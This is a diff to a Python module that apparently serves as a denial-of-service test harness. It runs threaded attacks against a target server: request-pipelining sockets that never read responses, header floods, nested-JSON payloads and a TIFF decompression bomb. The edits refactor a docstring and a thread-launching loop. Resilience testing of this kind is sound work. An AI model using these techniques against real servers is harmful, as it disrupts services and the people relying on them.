@@ -11,7 +11,7 @@ import threading
 import time
 from collections import Counter
 from collections.abc import Callable, Iterable, Iterator, Sequence
-from itertools import cycle, repeat
+from itertools import chain, cycle, repeat
 from multiprocessing.connection import Connection
 from pathlib import Path
 
@@ -95,7 +95,10 @@ def status(answer: bytes) -> str:
 
 
 class Pipeliners:
-    """Sockets that send 1,500 requests each and read none of the answers."""
+    """Sockets that send 1,500 requests each and read none of the answers.
+
+    One that the server has given up may not learn of it, since its window is full: the server's open files tell how many are held.
+    """
 
     def __init__(self, target: Target, tally: Tally) -> None:
         self._target, self._tally = target, tally
@@ -227,14 +230,7 @@ ATTACKS = ("pipeline", "headers", "json", "tiff")
 
 
 def run(target: Target, tiff: Path, attacks: Sequence[str], pipe: Connection) -> None:
-    """Attack until the pipe gives a word, then answer with how often each attack had each outcome, and end.
-
-    Args:
-        target: the server.
-        tiff: an image of 100 megapixels in few bytes.
-        attacks: which of `ATTACKS`.
-        pipe: to the process that started this one.
-    """
+    """Attack until the pipe gives a word, then answer with how often each attack had each outcome, and end."""
     os.nice(19)
     tally = Tally()
     pipeliners, image = Pipeliners(target, tally), tiff.read_bytes()
@@ -247,9 +243,8 @@ def run(target: Target, tiff: Path, attacks: Sequence[str], pipe: Connection) ->
         "json": [lambda: _again("json", nested_lists(target), target, tally)] * 2,
         "tiff": [lambda: _tiffs(target, image, tally)],
     }
-    for attack in attacks:
-        for work in threads[attack]:
-            threading.Thread(target=work, daemon=True).start()
+    for work in chain.from_iterable(threads[attack] for attack in attacks):
+        threading.Thread(target=work, daemon=True).start()
     pipe.recv()
     pipe.send((tally.read(), sum(os.times()[:2])))
     os._exit(0)  # threads wait in sockets
